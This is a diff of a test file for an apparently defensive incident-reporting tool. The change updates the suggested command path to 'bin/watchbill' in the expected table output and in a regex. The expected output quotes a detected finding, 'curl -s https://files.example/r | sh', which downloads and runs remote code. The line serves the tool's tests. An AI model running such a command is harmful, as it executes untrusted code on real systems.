@@ -55,7 +55,7 @@ test('an incident in one screen', () => {
             downloads and runs: curl -s https://files.example/r | sh
   Since   2026-11-23 04:37:14 UTC; 2 findings
   Unseen  nothing that the rules asked for: logged at RequestResponse
-  Do      watchbill explain ${sample.findings[1]?.id} audit.log
+  Do      bin/watchbill explain ${sample.findings[1]?.id} audit.log
           kubectl -n data patch cronjob nightly-report -p '{"spec":{"suspend":true}}'
 
 1 incident (1 critical) of 2 findings
@@ -69,7 +69,7 @@ covered: 2026-11-23 04:31:00 to 2026-11-23 04:39:00 UTC
 test('no line is wider than asked, but for commands, which stay whole', () => {
   for (const width of [60, 80, 120]) {
     for (const line of table(sample, { width }).split('\n')) {
-      const isCommand = /^ {2}(Do {6}| {8})(watchbill|kubectl) /.test(line);
+      const isCommand = /^ {2}(Do {6}| {8})(bin\/watchbill|kubectl) /.test(line);
       const isRow = /^(low|informational|SEVERITY) /.test(line);
       assert.ok(isCommand || columnsOf(line) <= (isRow ? Math.max(width, 80) : width), `${width}: ${line}`);
     }
